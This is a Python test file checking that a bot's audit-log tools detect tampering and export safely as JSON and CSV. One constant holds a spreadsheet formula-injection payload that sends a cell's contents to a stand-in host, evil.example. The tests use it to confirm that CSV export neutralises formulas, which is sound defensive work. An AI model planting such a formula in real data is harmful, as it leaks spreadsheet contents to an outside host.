"""`pimbot audit verify` and `pimbot audit export`, run as an operator runs them: a separate
process against the database a journey wrote."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sqlite3
import sys
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from tests.e2e.conftest import Sandbox
from tests.trust.journeys import pending_exchange_request

FORMULA_REASON = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@dataclass
class Run:
    code: int
    out: str
    err: str


async def pimbot(database: Path, *args: str) -> Run:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIMBOT_")}
    env["PIMBOT_DATABASE_URL"] = f"sqlite:///{database}"
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot",
        *args,
        cwd=database.parent,  # no stray .env
        env=env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await process.communicate()
    assert process.returncode is not None
    return Run(process.returncode, out.decode(), err.decode())


async def tamper(database: Path, statement: str) -> None:
    def run() -> None:
        with sqlite3.connect(database) as connection:
            connection.execute(statement)

    await asyncio.to_thread(run)


@pytest.fixture
async def journal(sandboxed: Sandbox, tmp_path: Path) -> Path:
    """The database after a request approved with a formula as its reason and another denied
    with one, as a mischievous approver could type them."""
    await pending_exchange_request(sandboxed)
    await sandboxed.person("megan").press("Approve", {"reason": FORMULA_REASON})
    await sandboxed.run_jobs()
    await sandboxed.person("alex").say("activate exchange admin for 1h because +1 for INC-3")
    await sandboxed.person("alex").press("Ask for approval")
    await sandboxed.run_jobs()
    await sandboxed.person("nestor").press("Deny", {"reason": "-1; @nestor says no"})
    return tmp_path / "pimbot.db"


async def test_verify_accepts_the_chain_a_journey_wrote(journal: Path) -> None:
    run = await pimbot(journal, "audit", "verify")

    assert run.code == 0, run.err
    assert run.out.startswith("OK: ")
    checked = int(run.out.split()[1])
    exported = await pimbot(journal, "audit", "export", "--format", "json")
    assert checked == len(exported.out.splitlines()) > 10


@pytest.mark.parametrize(
    ("statement", "problem"),
    [
        ("UPDATE audit_log SET reason = 'fine' WHERE action = 'request.approved'", "altered"),
        ("UPDATE audit_log SET actor_id = NULL WHERE action = 'request.denied'", "altered"),
        ("DELETE FROM audit_log WHERE action = 'request.denied'", "missing"),
        ("DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)", "missing"),
    ],
    ids=["reason edited", "actor erased", "denial deleted", "newest entry deleted"],
)
async def test_verify_fails_with_exit_1_on_a_tampered_log(
    journal: Path, statement: str, problem: str
) -> None:
    await tamper(journal, statement)

    run = await pimbot(journal, "audit", "verify")

    assert run.code == 1
    assert run.out.startswith("BROKEN: ")
    assert problem in run.out


async def test_json_export_is_the_log_as_stored(journal: Path) -> None:
    run = await pimbot(journal, "audit", "export", "--format", "json")

    assert run.code == 0, run.err
    records = [json.loads(line) for line in run.out.splitlines()]
    assert [r["id"] for r in records] == list(range(1, len(records) + 1))
    approved = next(r for r in records if r["action"] == "request.approved")
    assert approved["reason"] == FORMULA_REASON
    assert approved["details"]["role"] == "Exchange Administrator"
    assert all(r["hash"] and r["prev_hash"] for r in records)


async def test_csv_export_cannot_run_formulas_in_a_spreadsheet(journal: Path) -> None:
    run = await pimbot(journal, "audit", "export", "--format", "csv")

    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    reasons = {row["action"]: row["reason"] for row in rows}
    assert reasons["request.approved"] == "'" + FORMULA_REASON
    assert reasons["request.denied"] == "'-1; @nestor says no"
    assert rows[0]["id"] == "1" and rows[0]["details"].startswith("{")


async def test_export_since_leaves_older_entries_out(journal: Path) -> None:
    everything = await pimbot(journal, "audit", "export", "--format", "json")
    records = [json.loads(line) for line in everything.out.splitlines()]
    first_at = records[0]["at"]
    after_last = (datetime.fromisoformat(records[-1]["at"]) + timedelta(seconds=1)).isoformat()

    none = await pimbot(journal, "audit", "export", "--format", "json", "--since", after_last)
    all_again = await pimbot(journal, "audit", "export", "--format", "json", "--since", first_at)

    assert none.code == 0 and none.out == ""
    assert all_again.out == everything.out


async def pimbot_in(cwd: Path, *args: str) -> Run:
    """`pimbot` as an operator runs it in `cwd`, with no PIMBOT_* setting in the environment."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIMBOT_")}
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot",
        *args,
        cwd=cwd,
        env=env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await process.communicate()
    assert process.returncode is not None
    return Run(process.returncode, out.decode(), err.decode())


async def copy_database(source: Path, target: Path) -> None:
    def run() -> None:
        target.parent.mkdir(parents=True, exist_ok=True)
        with sqlite3.connect(source) as src, sqlite3.connect(target) as dst:
            src.backup(dst)

    await asyncio.to_thread(run)


async def head(database: Path) -> tuple[int, str]:
    def run() -> tuple[int, str]:
        with sqlite3.connect(database) as connection:
            row = connection.execute("SELECT last_id, last_hash FROM audit_head").fetchone()
        return int(row[0]), str(row[1])

    return await asyncio.to_thread(run)


async def test_verify_with_the_head_record_gone_says_so_and_exits_1(journal: Path) -> None:
    await tamper(journal, "DELETE FROM audit_head")

    run = await pimbot(journal, "audit", "verify")

    assert run.code == 1
    assert run.out.startswith("BROKEN: ") and "head record" in run.out
    assert "Traceback" not in run.err


async def test_verify_reads_the_database_it_is_given(journal: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()

    run = await pimbot_in(elsewhere, "audit", "verify", "--database", f"sqlite:///{journal}")

    assert run.code == 0, run.err
    assert int(run.out.split()[1]) > 10


async def test_verify_reads_the_sandboxs_database_with_sandbox(
    journal: Path, tmp_path: Path
) -> None:
    operator = tmp_path / "checkout"
    await copy_database(journal, operator / "var" / "sandbox" / "pimbot.db")
    await copy_database(journal, operator / "var" / "pimbot.db")
    await tamper(operator / "var" / "pimbot.db", "DELETE FROM audit_log WHERE id = 1")

    sandboxed = await pimbot_in(operator, "audit", "verify", "--sandbox")
    default = await pimbot_in(operator, "audit", "verify")

    assert sandboxed.code == 0 and int(sandboxed.out.split()[1]) > 10
    assert default.code == 1  # var/pimbot.db, the one tampered with


async def test_verify_after_a_sandbox_session_finds_the_sandboxs_database(
    journal: Path, tmp_path: Path
) -> None:
    operator = tmp_path / "checkout"
    await copy_database(journal, operator / "var" / "sandbox" / "pimbot.db")

    run = await pimbot_in(operator, "audit", "verify")

    assert run.code == 0, run.err
    assert int(run.out.split()[1]) > 10
    assert "var/sandbox/pimbot.db" in run.err  # it says which database it read


async def test_verify_without_a_database_says_so_and_exits_1(tmp_path: Path) -> None:
    run = await pimbot_in(tmp_path, "audit", "verify")

    assert run.code == 1
    assert "no database" in run.err and "Traceback" not in run.err
    assert not (tmp_path / "var" / "pimbot.db").exists()


async def test_verify_against_the_published_anchor(journal: Path) -> None:
    anchor_id, anchor = await head(journal)

    run = await pimbot(journal, "audit", "verify", "--anchor", anchor)

    assert run.code == 0, run.err
    assert f"anchor is entry {anchor_id}" in run.out


async def test_verify_against_an_anchor_the_log_no_longer_has_exits_1(journal: Path) -> None:
    _, anchor = await head(journal)
    await tamper(journal, "DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)")
    await tamper(
        journal,
        "UPDATE audit_head SET last_id = last_id - 1, last_hash = "
        "(SELECT hash FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log))",
    )

    plain = await pimbot(journal, "audit", "verify")
    anchored = await pimbot(journal, "audit", "verify", "--anchor", anchor)

    assert plain.code == 0  # a cut-off tail with a rewritten head is consistent in itself
    assert anchored.code == 1
    assert "anchor" in anchored.out and anchor in anchored.out
